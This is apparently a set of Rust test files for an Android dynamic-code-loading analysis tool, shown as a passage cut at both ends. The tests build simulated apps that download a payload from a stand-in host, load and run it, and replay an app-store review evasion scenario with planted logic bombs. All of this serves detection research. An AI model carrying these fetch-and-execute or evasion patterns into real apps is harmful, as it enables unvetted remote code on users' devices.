        MethodRef::new("java.io.File", "<init>", "(Ljava/lang/String;)V"),
        vec![7, 8],
    );
    m.const_str(9, &final_path);
    m.invoke_virtual(
        MethodRef::new("java.io.File", "renameTo", "(Ljava/lang/String;)Z"),
        vec![7, 9],
    );
    dydroid_workload::emit::dex_load_and_run(
        m,
        &final_path,
        &format!("/data/data/{pkg}/odex"),
        "com.p.P",
        "run",
    );
    m.ret_void();

    let payload = dydroid_workload::emit::trivial_payload("com.p.P");
    let apk = Apk::build(manifest, b.build());

    let mut device = Device::new(DeviceConfig::default());
    device
        .net
        .host("cdn.test.com", "/p.bin", payload.to_bytes());
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive, "log: {:?}", device.log.events());
    assert!(
        device.hooks.flow.is_remote(&final_path),
        "provenance must survive the rename"
    );
    assert_eq!(
        device.hooks.flow.url_sources(&final_path),
        vec!["http://cdn.test.com/p.bin".to_string()]
    );
}
