//! Provenance integration: the download tracker must separate remotely
//! fetched code from locally packed code across real app executions,
//! including the paper's Google-Bouncer evasion experiment — plus the
//! flight-recorder ledger: chain reconstruction for every remote load,
//! environment-divergence diffing against Table VIII, DOT export
//! well-formedness, and byte-identical ledgers across same-seed and
//! resumed sweeps.

use std::path::PathBuf;

use dydroid::provenance::check_against_journal;
use dydroid::{AppProvenance, Journal, Pipeline, PipelineConfig, ProvenanceLedger};
use dydroid_workload::{generate, CorpusSpec};

#[test]
fn corpus_remote_fetchers_and_only_them_are_flagged() {
    let corpus = generate(&CorpusSpec {
        scale: 0.01,
        seed: 31,
    });
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    let report = pipeline.run(&corpus);
    let t5 = report.table5();

    let truth: std::collections::HashSet<&str> = corpus
        .iter()
        .filter(|a| a.plan.remote_fetch)
        .map(|a| a.plan.package.as_str())
        .collect();
    let detected: std::collections::HashSet<&str> =
        t5.apps.iter().map(|(p, _)| p.as_str()).collect();

    assert_eq!(detected, truth, "remote-fetch detection must be exact");
    for (_, urls) in &t5.apps {
        assert!(urls.iter().all(|u| u.contains("mobads.baidu.com")));
    }
}

#[test]
fn locally_packed_dcl_is_never_flagged_remote() {
    let corpus = generate(&CorpusSpec {
        scale: 0.01,
        seed: 31,
    });
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    });
    // Pick ad-SDK apps: they stage payloads from local assets.
    let mut checked = 0;
    for app in corpus.iter().filter(|a| a.plan.google_ads).take(5) {
        let record = pipeline.analyze_app(app);
        if let Some(d) = record.dynamic {
            if !d.dex_events.is_empty() {
                assert!(
                    d.remote_loads.is_empty(),
                    "{} stages from assets, not the network",
                    app.plan.package
                );
                checked += 1;
            }
        }
    }
    assert!(checked > 0, "no ad apps exercised");
}

/// The paper's Bouncer experiment: App_L passes review while the malware
/// server is disabled, then fetches and runs App_M after release.
#[test]
fn bouncer_evasion_scenario() {
    use dydroid_avm::{Device, DeviceConfig};
    use dydroid_monkey::{Monkey, MonkeyConfig};

    let corpus = generate(&CorpusSpec {
        scale: 0.01,
        seed: 31,
    });
    let app = corpus
        .iter()
        .find(|a| a.plan.remote_fetch)
        .expect("remote-fetch app in corpus");

    // Review phase: the server withholds the payload. The app still gets
    // published (it merely fails its fetch; no remote code observed).
    let mut device = Device::new(DeviceConfig::default());
    for (domain, path, bytes) in &app.remote_resources {
        device.net.host(domain, path, bytes.clone());
        device.net.set_enabled(domain, false);
    }
    device.install(&app.apk).unwrap();
    let mut monkey = Monkey::new(MonkeyConfig::default());
    let _ = monkey.exercise(&mut device, app.package()).unwrap();
    assert_eq!(
        device.log.dcl_events().count(),
        0,
        "no dynamic load observable during review"
    );

    // After release: the server enables delivery and the code runs.
    let mut device = Device::new(DeviceConfig::default());
    for (domain, path, bytes) in &app.remote_resources {
        device.net.host(domain, path, bytes.clone());
    }
    device.install(&app.apk).unwrap();
    let mut monkey = Monkey::new(MonkeyConfig::default());
    let outcome = monkey.exercise(&mut device, app.package()).unwrap();
    assert!(outcome.is_clean());
    let events: Vec<_> = device.log.dcl_events().collect();
    assert_eq!(events.len(), 1);
    assert!(device.hooks.flow.is_remote(&events[0].path));
}

/// File → File edges: a rename after download must keep remote provenance.
#[test]
fn rename_preserves_remote_provenance_in_app() {
    use dydroid_avm::{Device, DeviceConfig};
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, Apk, Component, Manifest, MethodRef};

    let pkg = "com.test.renamer";
    let tmp = format!("/data/data/{pkg}/cache/tmp.bin");
    let final_path = format!("/data/data/{pkg}/files/real.dex");

    let mut manifest = Manifest::new(pkg);
    manifest
        .components
        .push(Component::main_activity(format!("{pkg}.Main")));
    let mut b = DexBuilder::new();
    let c = b.class(format!("{pkg}.Main"), "android.app.Activity");
    let m = c.method("onCreate", "()V", AccessFlags::PUBLIC);
    m.registers(12);
    dydroid_workload::emit::download_to_file(m, "http://cdn.test.com/p.bin", &tmp);
    // Rename the staging file to its final location.
    m.new_instance(7, "java.io.File");
    m.const_str(8, &tmp);
    m.invoke_direct(
        MethodRef::new("java.io.File", "<init>", "(Ljava/lang/String;)V"),
        vec![7, 8],
    );
    m.const_str(9, &final_path);
    m.invoke_virtual(
        MethodRef::new("java.io.File", "renameTo", "(Ljava/lang/String;)Z"),
        vec![7, 9],
    );
    dydroid_workload::emit::dex_load_and_run(
        m,
        &final_path,
        &format!("/data/data/{pkg}/odex"),
        "com.p.P",
        "run",
    );
    m.ret_void();

    let payload = dydroid_workload::emit::trivial_payload("com.p.P");
    let apk = Apk::build(manifest, b.build());

    let mut device = Device::new(DeviceConfig::default());
    device
        .net
        .host("cdn.test.com", "/p.bin", payload.to_bytes());
    device.install(&apk.to_bytes()).unwrap();
    let proc = device.launch(pkg).unwrap();
    assert!(proc.alive, "log: {:?}", device.log.events());
    assert!(
        device.hooks.flow.is_remote(&final_path),
        "provenance must survive the rename"
    );
    assert_eq!(
        device.hooks.flow.url_sources(&final_path),
        vec!["http://cdn.test.com/p.bin".to_string()]
    );
}

// ---------------------------------------------------------------------------
// Flight-recorder ledger
// ---------------------------------------------------------------------------

fn temp_journal(tag: &str) -> Journal {
    Journal::new(
        std::env::temp_dir().join(format!("dydroid_prov_{tag}_{}.jsonl", std::process::id())),
    )
}

fn journaled_sweep(tag: &str, env_reruns: bool) -> (Journal, dydroid::MeasurementReport) {
    let corpus = generate(&CorpusSpec {
        scale: 0.02,
        ..Default::default()
    });
    let journal = temp_journal(tag);
    journal.reset().expect("reset journal");
    let pipeline = Pipeline::new(PipelineConfig {
        environment_reruns: env_reruns,
        ..Default::default()
    });
    let report = pipeline
        .run_resumable(&corpus, &journal)
        .expect("journaled sweep");
    (journal, report)
}

fn load_ledger(journal: &Journal) -> Vec<AppProvenance> {
    ProvenanceLedger::new(journal.provenance_path())
        .load()
        .expect("ledger loads")
}

/// Acceptance: for every exercised app with a remote load, the ledger
/// reconstructs the complete URL → ... → File chain — and agrees with
/// the journal on the app set.
#[test]
fn ledger_reconstructs_every_remote_chain() {
    let (journal, report) = journaled_sweep("chains", false);
    let ledger = load_ledger(&journal);
    let journaled = journal.load().expect("journal loads");
    check_against_journal(&ledger, &journaled).expect("ledger and journal app sets agree");

    let by_pkg: std::collections::HashMap<&str, &AppProvenance> =
        ledger.iter().map(|p| (p.package.as_str(), p)).collect();
    let mut remote_chains = 0;
    for record in report.records() {
        let Some(d) = &record.dynamic else { continue };
        let prov = by_pkg[record.package.as_str()];
        for (path, urls) in &d.remote_loads {
            assert!(
                prov.is_remote_chain(path),
                "{}: chain for {path} must start at a URL",
                record.package
            );
            assert!(
                !prov.loads_for(path).is_empty(),
                "{}: remote file {path} has no load node",
                record.package
            );
            let chain = prov.render_chain(path).expect("chain renders");
            assert!(
                urls.iter().any(|u| chain.starts_with(&format!("URL {u}"))),
                "{}: chain must begin at one of the download URLs {urls:?}, got: {chain}",
                record.package
            );
            assert!(chain.contains(&format!("File {path}")));
            remote_chains += 1;
        }
    }
    assert!(remote_chains > 0, "corpus produced no remote loads");
    journal.reset().expect("cleanup");
}

/// `dcltrace diff` semantics: the divergence set is exactly the loads
/// whose presence differs across the four configurations, and per-config
/// membership reproduces the Table VIII counts.
#[test]
fn env_divergence_agrees_with_table_viii() {
    let (journal, report) = journaled_sweep("envdiff", true);
    let ledger = load_ledger(&journal);

    let counts = report.env_counts();
    let loads = report.env_loads();
    assert_eq!(
        loads.len(),
        counts.total_files,
        "one EnvLoad per malicious file"
    );
    let member = |name: &str| {
        loads
            .iter()
            .filter(|l| l.configs.iter().any(|c| c == name))
            .count()
    };
    assert_eq!(member("System time"), counts.time_before_release);
    assert_eq!(member("Airplane mode/WiFi ON"), counts.airplane_wifi_on);
    assert_eq!(member("Airplane mode/WiFi OFF"), counts.airplane_wifi_off);
    assert_eq!(member("Location OFF"), counts.location_off);

    // The ledger's per-app diff is exactly the report's divergent subset.
    let from_report: Vec<(&str, &str)> = loads
        .iter()
        .filter(|l| l.configs.len() < 4)
        .map(|l| (l.package.as_str(), l.path.as_str()))
        .collect();
    let mut from_ledger = Vec::new();
    for prov in &ledger {
        for d in prov.env_diff() {
            assert_eq!(
                d.loaded_under.len() + d.missing_under.len(),
                4,
                "diff partitions the four configs"
            );
            assert!(!d.missing_under.is_empty());
            from_ledger.push((prov.package.clone(), d.path.clone()));
        }
    }
    let from_ledger: Vec<(&str, &str)> = from_ledger
        .iter()
        .map(|(p, f)| (p.as_str(), f.as_str()))
        .collect();
    assert_eq!(from_ledger, from_report, "ledger diff diverges from report");
    assert!(
        !from_report.is_empty(),
        "fixed-seed corpus must contain environment-divergent loads"
    );
    journal.reset().expect("cleanup");
}

/// Logic bombs are caught: the corpus plants trigger-guarded malware, and
/// the divergence diff surfaces it — a time bomb's payload is missing
/// exactly under the "System time" (pre-release clock) configuration.
#[test]
fn logic_bomb_divergence_is_caught_by_diff() {
    let corpus = generate(&CorpusSpec {
        scale: 0.02,
        ..Default::default()
    });
    let triggered: std::collections::HashMap<&str, bool> = corpus
        .iter()
        .filter_map(|a| {
            let (_, triggers) = a.plan.malware.as_ref()?;
            Some((
                a.plan.package.as_str(),
                triggers.iter().any(|t| {
                    t.time_bomb || t.airplane_check || t.needs_network || t.location_check
                }),
            ))
        })
        .collect();
    assert!(
        triggered.values().any(|&t| t),
        "corpus must plant trigger-guarded malware"
    );

    let (journal, _report) = journaled_sweep("bomb", true);
    let ledger = load_ledger(&journal);
    let mut bomb_diffs = 0;
    for prov in &ledger {
        for d in prov.env_diff() {
            // Divergence only ever comes from planted triggers or a
            // network-dependent fetch, never from analysis noise.
            assert!(
                triggered
                    .get(prov.package.as_str())
                    .copied()
                    .unwrap_or(false)
                    || corpus
                        .iter()
                        .any(|a| a.plan.package == prov.package && a.plan.remote_fetch),
                "{}: divergent load {} has no planted trigger",
                prov.package,
                d.path
            );
            if triggered
                .get(prov.package.as_str())
                .copied()
                .unwrap_or(false)
            {
                bomb_diffs += 1;
            }
        }
    }
    assert!(bomb_diffs > 0, "no logic-bomb divergence surfaced");
    journal.reset().expect("cleanup");
}

/// The corpus DOT export is well-formed: balanced braces, and every edge
/// references a declared node id.
#[test]
fn dot_export_parses_back() {
    let (journal, _report) = journaled_sweep("dot", false);
    let ledger = load_ledger(&journal);
    let dot = dydroid::provenance::corpus_dot(&ledger);

    assert!(dot.starts_with("digraph "));
    let opens = dot.matches('{').count();
    let closes = dot.matches('}').count();
    assert_eq!(opens, closes, "unbalanced braces");

    let mut declared: std::collections::HashSet<&str> = Default::default();
    let mut edges = 0usize;
    for line in dot.lines().map(str::trim) {
        if let Some((lhs, _)) = line.split_once(" -> ") {
            let to = line
                .split(" -> ")
                .nth(1)
                .and_then(|r| r.split_whitespace().next())
                .expect("edge target");
            assert!(declared.contains(lhs), "edge from undeclared node {lhs}");
            assert!(declared.contains(to), "edge to undeclared node {to}");
            edges += 1;
        } else if line.contains("[label=") && !line.starts_with("label") {
            if let Some(id) = line.split_whitespace().next() {
                declared.insert(id);
            }
        }
    }
    assert!(!declared.is_empty(), "no nodes declared");
    assert!(edges > 0, "no edges declared");
    journal.reset().expect("cleanup");
}

/// Determinism: two same-seed sweeps produce byte-identical ledgers, and
/// a killed-and-resumed sweep (torn journal *and* torn ledger) converges
/// to the very same bytes.
#[test]
fn ledger_is_byte_identical_across_reruns_and_resume() {
    let corpus = generate(&CorpusSpec {
        scale: 0.01,
        seed: 31,
    });
    let config = PipelineConfig {
        environment_reruns: false,
        ..Default::default()
    };
    let run = |journal: &Journal| {
        journal.reset().expect("reset");
        Pipeline::new(config.clone())
            .run_resumable(&corpus, journal)
            .expect("sweep");
    };
    let bytes_of = |journal: &Journal| -> Vec<u8> {
        std::fs::read(journal.provenance_path()).expect("ledger bytes")
    };

    let a = temp_journal("bytes_a");
    let b = temp_journal("bytes_b");
    run(&a);
    run(&b);
    let reference = bytes_of(&a);
    assert!(!reference.is_empty());
    assert_eq!(reference, bytes_of(&b), "same-seed ledgers differ");

    // Kill simulation on B: drop the journal tail and tear the ledger
    // mid-line, then resume with a fresh pipeline.
    let truncate = |path: PathBuf, keep: usize, garbage: &str| {
        let text = std::fs::read_to_string(&path).expect("read");
        let mut kept: String = text.lines().take(keep).map(|l| format!("{l}\n")).collect();
        kept.push_str(garbage);
        std::fs::write(&path, kept).expect("truncate");
    };
    truncate(b.path().to_path_buf(), 20, "");
    truncate(b.provenance_path(), 10, "{\"package\":\"com.torn");
    Pipeline::new(config.clone())
        .run_resumable(&corpus, &b)
        .expect("resumed sweep");
    assert_eq!(
        reference,
        bytes_of(&b),
        "resumed ledger diverges from the uninterrupted run"
    );
    a.reset().expect("cleanup");
    b.reset().expect("cleanup");
}
