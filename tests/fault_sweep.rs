//! End-to-end robustness: a 200-app sweep at a 20% fault rate must
//! complete, classify exactly the injected apps as failures, render every
//! table, and resume from the journal after a simulated mid-sweep kill
//! without re-analyzing completed apps.

use std::collections::{HashMap, HashSet};
use std::path::PathBuf;
use std::sync::Arc;

use dydroid::{IoHarness, Journal, Pipeline, PipelineConfig};
use dydroid_workload::faults::{
    self, crash_points, crash_torture, FaultKind, FaultPlan, FaultSpec,
};
use dydroid_workload::{generate, CorpusSpec, SyntheticApp};

const CORPUS_APPS: usize = 200;
const FAULT_RATE: f64 = 0.2;
const FAULT_SEED: u64 = 17;

fn fault_corpus() -> (Vec<SyntheticApp>, Vec<FaultPlan>) {
    let mut corpus = generate(&CorpusSpec {
        scale: 0.004,
        seed: 99,
    });
    corpus.truncate(CORPUS_APPS);
    assert_eq!(corpus.len(), CORPUS_APPS, "corpus generation too small");
    let plans = faults::inject(
        &mut corpus,
        &FaultSpec {
            rate: FAULT_RATE,
            seed: FAULT_SEED,
        },
    );
    assert!(
        plans.len() >= FaultKind::ALL.len(),
        "fault rate selected too few apps for full kind coverage"
    );
    (corpus, plans)
}

fn pipeline() -> Pipeline {
    Pipeline::new(PipelineConfig {
        workers: 4,
        environment_reruns: false,
        app_deadline_ms: 400,
        ..Default::default()
    })
}

fn temp_journal(tag: &str) -> Journal {
    let path: PathBuf = std::env::temp_dir().join(format!(
        "dydroid_fault_sweep_{tag}_{}.jsonl",
        std::process::id()
    ));
    let journal = Journal::new(path);
    journal.reset().expect("reset journal");
    journal
}

#[test]
fn faulty_sweep_completes_and_classifies_exactly_the_injected_apps() {
    let (corpus, plans) = fault_corpus();
    let by_package: HashMap<&str, FaultKind> =
        plans.iter().map(|p| (p.package.as_str(), p.kind)).collect();
    // The acceptance scenario needs at least one analyzer-panicking app
    // and one deadline-exceeding app in the mix.
    assert!(plans.iter().any(|p| p.kind == FaultKind::PanicTrigger));
    assert!(plans.iter().any(|p| p.kind == FaultKind::SpinLoop));

    let journal = temp_journal("classify");
    let report = pipeline()
        .run_resumable(&corpus, &journal)
        .expect("sweep completes despite faults");
    assert_eq!(report.records().len(), CORPUS_APPS);

    for record in report.records() {
        let fault = by_package.get(record.package.as_str()).copied();
        match fault {
            Some(kind) if kind.expects_harness_failure() => {
                let reason = record.harness_failure().unwrap_or_else(|| {
                    panic!("{} ({kind:?}) should be a harness failure", record.package)
                });
                match kind {
                    FaultKind::PanicTrigger => {
                        assert!(
                            reason.contains("panic"),
                            "{}: reason should carry the panic message: {reason}",
                            record.package
                        );
                    }
                    FaultKind::SpinLoop => {
                        assert!(
                            reason.contains("deadline exceeded"),
                            "{}: reason should name the deadline: {reason}",
                            record.package
                        );
                    }
                    FaultKind::OversizedManifest => {
                        assert!(
                            reason.contains("sanity bounds"),
                            "{}: reason should name the sanity guard: {reason}",
                            record.package
                        );
                    }
                    _ => unreachable!(),
                }
            }
            Some(kind) if kind.expects_decompile_failure() => {
                assert!(
                    !record.decompiled,
                    "{} ({kind:?}) should fail decompilation",
                    record.package
                );
                assert!(
                    !record.obfuscation.anti_decompilation,
                    "{} ({kind:?}) must not look like a legit anti-decompilation app",
                    record.package
                );
            }
            Some(FaultKind::DeadRemoteHost) | None => {
                // Dead payload hosts degrade gracefully (the app may
                // crash, but the harness must not fail); clean apps
                // either decompile or are legit anti-decompilation apps.
                assert!(
                    record.harness_failure().is_none(),
                    "{}: unexpected harness failure: {:?}",
                    record.package,
                    record.harness_failure()
                );
                if fault.is_none() {
                    assert!(
                        record.decompiled || record.obfuscation.anti_decompilation,
                        "{}: clean app neither decompiled nor anti-decompilation",
                        record.package
                    );
                }
            }
            Some(_) => unreachable!(),
        }
    }

    // Exactness in the other direction: every harness failure and every
    // unexplained decompile failure traces back to an injected fault.
    for record in report.records() {
        if record.harness_failure().is_some() {
            let kind = by_package.get(record.package.as_str());
            assert!(
                kind.is_some_and(|k| k.expects_harness_failure()),
                "{}: harness failure without an injected cause",
                record.package
            );
        }
        if !record.decompiled && !record.obfuscation.anti_decompilation {
            let kind = by_package.get(record.package.as_str());
            assert!(
                kind.is_some_and(|k| k.expects_decompile_failure()),
                "{}: decompile failure without an injected cause",
                record.package
            );
        }
    }

    // Every table still renders, and Table II reports the failures.
    let text = report.render_all();
    for header in [
        "TABLE II",
        "TABLE III",
        "TABLE IV",
        "TABLE V",
        "TABLE VI",
        "TABLE VII",
        "TABLE VIII",
        "TABLE IX",
        "TABLE X",
    ] {
        assert!(text.contains(header), "missing {header}");
    }
    assert!(text.contains("Harness failure"));

    // The journal checkpointed the entire sweep.
    assert_eq!(journal.load().expect("load journal").len(), CORPUS_APPS);
    journal.reset().expect("cleanup");
}

/// The acceptance scenario for the telemetry layer: even at a 20% fault
/// rate the sweep produces a loadable Chrome trace and an event stream
/// whose checkpoints agree with the journal — panicking and
/// deadline-blown apps included.
#[test]
fn faulty_sweep_trace_is_loadable_and_events_match_journal() {
    let (corpus, _plans) = fault_corpus();
    let journal = temp_journal("trace");
    let trace_path: PathBuf = std::env::temp_dir().join(format!(
        "dydroid_fault_sweep_{}.trace.json",
        std::process::id()
    ));

    let traced = Pipeline::new(PipelineConfig {
        workers: 4,
        environment_reruns: false,
        app_deadline_ms: 400,
        trace_out: Some(trace_path.to_string_lossy().into_owned()),
        ..Default::default()
    });
    let report = traced
        .run_resumable(&corpus, &journal)
        .expect("sweep completes despite faults");
    assert_eq!(report.records().len(), CORPUS_APPS);

    // The Chrome trace parses back with one complete event per span.
    let text = std::fs::read_to_string(&trace_path).expect("trace file written");
    let parsed: serde_json::Value = serde_json::from_str(&text).expect("trace parses");
    let events = parsed
        .get("traceEvents")
        .and_then(|e| e.as_array())
        .expect("traceEvents array");
    assert_eq!(events.len(), traced.telemetry().spans().len());
    assert!(events.len() >= CORPUS_APPS, "fewer events than apps");

    // The event stream checkpoints exactly the journaled packages. Each
    // line is a checksummed frame whose `body` carries the event.
    let events_text = std::fs::read_to_string(journal.events_path()).expect("events file");
    let mut checkpointed: HashSet<String> = HashSet::new();
    for line in events_text.lines().filter(|l| !l.trim().is_empty()) {
        let v: serde_json::Value = serde_json::from_str(line).expect("event frame parses");
        let body = v.get("body").expect("framed event has a body");
        if body.get("type").and_then(|t| t.as_str()) == Some("checkpoint") {
            let app = body
                .get("app")
                .and_then(|a| a.as_str())
                .expect("checkpoint app");
            checkpointed.insert(app.to_string());
        }
    }
    let journaled: HashSet<String> = journal
        .load()
        .expect("load journal")
        .into_iter()
        .map(|r| r.package)
        .collect();
    assert_eq!(journaled.len(), CORPUS_APPS);
    assert_eq!(
        checkpointed, journaled,
        "event-stream checkpoints diverge from the journal"
    );

    let _ = std::fs::remove_file(&trace_path);
    journal.reset().expect("cleanup");
}

#[test]
fn sweep_resumes_after_mid_flight_kill_without_rework() {
    let (corpus, _plans) = fault_corpus();
    let journal = temp_journal("resume");

    let first = pipeline()
        .run_resumable(&corpus, &journal)
        .expect("initial sweep");
    assert_eq!(journal.load().expect("journal").len(), CORPUS_APPS);

    // Simulate a kill after 120 completed apps: keep the journal's first
    // 120 lines (plus a torn half-line, as a real kill would leave).
    const SURVIVORS: usize = 120;
    let text = std::fs::read_to_string(journal.path()).expect("read journal");
    let mut kept: String = text
        .lines()
        .take(SURVIVORS)
        .map(|l| format!("{l}\n"))
        .collect();
    kept.push_str("{\"package\":\"com.torn.midwrite\",\"metad");
    std::fs::write(journal.path(), kept).expect("truncate journal");

    let resumed = pipeline()
        .run_resumable(&corpus, &journal)
        .expect("resumed sweep");

    // Exactly the missing apps were re-analyzed and appended; the torn
    // line was dropped.
    let records = journal.load().expect("load resumed journal");
    assert_eq!(
        records.len(),
        CORPUS_APPS,
        "resume must append exactly the {} missing apps",
        CORPUS_APPS - SURVIVORS
    );
    let unique: HashSet<&str> = records.iter().map(|r| r.package.as_str()).collect();
    assert_eq!(unique.len(), CORPUS_APPS, "no package analyzed twice");

    // The resumed report covers the full corpus and matches the
    // uninterrupted run.
    assert_eq!(resumed.records().len(), CORPUS_APPS);
    assert_eq!(resumed.table2(), first.table2());
    journal.reset().expect("cleanup");
}

/// The crash-consistency acceptance: kill a journaled sweep at *every*
/// write boundary of its three persistent streams, resume it cleanly,
/// and require the finalized journal, provenance ledger and event stream
/// to be byte-identical to the fault-free run at the same seed.
#[test]
fn crash_torture_recovers_byte_identical_streams_at_every_boundary() {
    let mut corpus = generate(&CorpusSpec {
        scale: 0.004,
        seed: 99,
    });
    corpus.truncate(6);
    let config = PipelineConfig {
        workers: 2,
        environment_reruns: false,
        app_deadline_ms: 400,
        ..Default::default()
    };

    // All three finalized streams of one journaled run, concatenated.
    let stream_bytes = |journal: &Journal| -> Vec<u8> {
        let mut bytes = std::fs::read(journal.path()).expect("journal bytes");
        bytes.extend(std::fs::read(journal.provenance_path()).expect("ledger bytes"));
        bytes.extend(std::fs::read(journal.events_path()).expect("events bytes"));
        bytes
    };
    let run = |tag: &str, harness: Option<Arc<IoHarness>>| -> Vec<u8> {
        let journal = temp_journal(tag);
        let mut pipeline = Pipeline::new(config.clone());
        if let Some(h) = &harness {
            pipeline.set_io_harness(Arc::clone(h));
        }
        let _ = pipeline
            .run_resumable(&corpus, &journal)
            .expect("interrupted run still returns");
        if harness.is_some() {
            // The kill froze the files mid-run; resume with a clean
            // pipeline, exactly as a restarted process would.
            let _ = Pipeline::new(config.clone())
                .run_resumable(&corpus, &journal)
                .expect("resumed run");
        }
        let bytes = stream_bytes(&journal);
        journal.reset().expect("cleanup");
        bytes
    };

    // Size the crash matrix from a counting reference run, then exercise
    // every write boundary of the small corpus.
    let counter = IoHarness::counting();
    let reference = run("torture_ref", Some(Arc::clone(&counter)));
    let total_ops = counter.ops();
    let points = crash_points(total_ops, 0);
    let report = crash_torture(
        move || (reference, total_ops),
        &points,
        |op| {
            run(
                &format!("torture_{op}"),
                Some(IoHarness::new(Some(op), None)),
            )
        },
    );
    assert!(report.total_ops > 0, "reference run wrote nothing");
    assert!(
        report.all_identical(),
        "crash points diverged: {:?} of {} ops",
        report.divergent(),
        report.total_ops
    );
}
