//! Multi-writer sharded stream acceptance: a multi-worker sweep that
//! appends through per-shard journal/ledger/event files — even one
//! killed mid-run and resumed — must finalize all three persistent
//! streams byte-identical to a single-worker serial run, and the shard
//! merge must preserve per-shard frame-sequence contiguity.

use std::collections::HashSet;
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};

use dydroid::durable::scan_path;
use dydroid::pipeline::{DynamicOutcome, DynamicStatus};
use dydroid::{AppRecord, IoHarness, Journal, Pipeline, PipelineConfig};
use dydroid_workload::{generate, CorpusSpec, SyntheticApp};
use proptest::prelude::*;

fn small_corpus(n: usize) -> Vec<SyntheticApp> {
    let mut corpus = generate(&CorpusSpec {
        scale: 0.004,
        seed: 99,
    });
    corpus.truncate(n);
    assert_eq!(corpus.len(), n, "corpus generation too small");
    corpus
}

fn temp_journal(tag: &str) -> Journal {
    let path: PathBuf = std::env::temp_dir().join(format!(
        "dydroid_sharded_{tag}_{}.jsonl",
        std::process::id()
    ));
    let journal = Journal::new(path);
    journal.reset().expect("reset journal");
    journal
}

fn config(workers: usize) -> PipelineConfig {
    PipelineConfig {
        workers,
        environment_reruns: false,
        app_deadline_ms: 400,
        ..PipelineConfig::default()
    }
}

/// All three finalized streams of one journaled run, concatenated.
fn stream_bytes(journal: &Journal) -> Vec<u8> {
    let mut bytes = std::fs::read(journal.path()).expect("journal bytes");
    bytes.extend(std::fs::read(journal.provenance_path()).expect("ledger bytes"));
    bytes.extend(std::fs::read(journal.events_path()).expect("events bytes"));
    bytes
}

/// The tentpole invariant: a sharded 4-worker sweep finalizes streams
/// byte-identical to the single-worker single-writer run.
#[test]
fn sharded_multiworker_streams_finalize_byte_identical_to_serial() {
    let corpus = small_corpus(60);

    let serial_journal = temp_journal("serial");
    let serial_report = Pipeline::new(config(1))
        .run_resumable(&corpus, &serial_journal)
        .expect("serial sweep");
    assert_eq!(
        serial_report.stats().stream_shards,
        1,
        "one worker must keep the single-writer collector path"
    );
    let serial_bytes = stream_bytes(&serial_journal);

    let sharded_journal = temp_journal("sharded");
    let sharded_report = Pipeline::new(config(4))
        .run_resumable(&corpus, &sharded_journal)
        .expect("sharded sweep");
    assert_eq!(
        sharded_report.stats().stream_shards,
        4,
        "four workers must open four stream shards"
    );
    assert_eq!(sharded_report.stats().worker_stats.len(), 4);
    let executed: u64 = sharded_report
        .stats()
        .worker_stats
        .iter()
        .map(|w| w.executed)
        .sum();
    assert_eq!(executed, corpus.len() as u64, "scheduler lost tasks");

    // Finalize removed the per-shard files and left the canonical
    // single-file layout.
    assert!(
        sharded_journal.discover_shards().expect("scan").is_empty(),
        "finalize must merge and remove shard files"
    );
    assert_eq!(stream_bytes(&sharded_journal), serial_bytes);

    // And the measured results are identical too.
    let a = serde_json::to_string(&serial_report).expect("serialise serial");
    let b = serde_json::to_string(&sharded_report).expect("serialise sharded");
    assert_eq!(a, b, "worker count changed measured bytes");

    serial_journal.reset().expect("cleanup");
    sharded_journal.reset().expect("cleanup");
}

/// The crash-consistency half: kill the sharded multi-worker sweep
/// mid-run (streams frozen at a write boundary), resume it with a fresh
/// pipeline, and require the finalized streams to be byte-identical to
/// the serial run — shard recovery takes each shard's longest
/// consistent prefix and re-analyses only the torn apps.
#[test]
fn killed_sharded_sweep_resumes_byte_identical_to_serial() {
    let corpus = small_corpus(60);

    let serial_journal = temp_journal("kill_serial");
    let _ = Pipeline::new(config(1))
        .run_resumable(&corpus, &serial_journal)
        .expect("serial sweep");
    let serial_bytes = stream_bytes(&serial_journal);

    let journal = temp_journal("kill_sharded");
    let mut first = Pipeline::new(config(4));
    // Freeze every persistent stream at write op 150 — mid-sweep, after
    // some apps have checkpointed into their shards.
    first.set_io_harness(IoHarness::new(Some(150), None));
    let _ = first
        .run_resumable(&corpus, &journal)
        .expect("interrupted sweep still returns");

    // The kill left unmerged per-shard files behind.
    assert!(
        !journal.discover_shards().expect("scan").is_empty(),
        "interrupted sharded sweep should leave shard files"
    );

    let resumed = Pipeline::new(config(4))
        .run_resumable(&corpus, &journal)
        .expect("resumed sweep");
    assert_eq!(resumed.records().len(), corpus.len());

    // No app analysed twice, shards merged away, streams byte-identical.
    let records = journal.load().expect("load resumed journal");
    let unique: HashSet<&str> = records.iter().map(|r| r.package.as_str()).collect();
    assert_eq!(unique.len(), corpus.len(), "package analysed twice");
    assert!(journal.discover_shards().expect("scan").is_empty());
    assert_eq!(stream_bytes(&journal), serial_bytes);

    serial_journal.reset().expect("cleanup");
    journal.reset().expect("cleanup");
}

static PROP_CASE: AtomicUsize = AtomicUsize::new(0);

fn prop_record(pkg: &str) -> AppRecord {
    AppRecord {
        package: pkg.to_string(),
        metadata: dydroid_workload::AppMetadata {
            category: 1,
            downloads: 10,
            rating_count: 2,
            avg_rating: 4.5,
        },
        decompiled: true,
        filter: Default::default(),
        obfuscation: Default::default(),
        rewritten: false,
        dynamic: Some(DynamicOutcome::empty(DynamicStatus::Exercised)),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// Shard merge preserves frame-sequence contiguity: every shard file
    /// scans clean (seq 0..n, nothing dropped) before the merge, and the
    /// merged base journal scans clean with exactly the union of the
    /// shard packages (base first, shards in ascending order, duplicates
    /// folded).
    #[test]
    fn shard_merge_preserves_per_shard_sequence_contiguity(
        base in prop::collection::vec(0usize..24, 0..4),
        shards in prop::collection::vec(prop::collection::vec(0usize..24, 0..6), 1..4),
    ) {
        let case = PROP_CASE.fetch_add(1, Ordering::Relaxed);
        let dir = std::env::temp_dir().join(format!(
            "dydroid_shard_merge_{}_{case}",
            std::process::id()
        ));
        std::fs::create_dir_all(&dir).unwrap();
        let journal = Journal::new(dir.join("sweep.jsonl"));
        journal.reset().unwrap();

        let mut expected: Vec<String> = Vec::new();
        let mut seen: HashSet<String> = HashSet::new();
        {
            let mut w = journal.writer().unwrap();
            for id in &base {
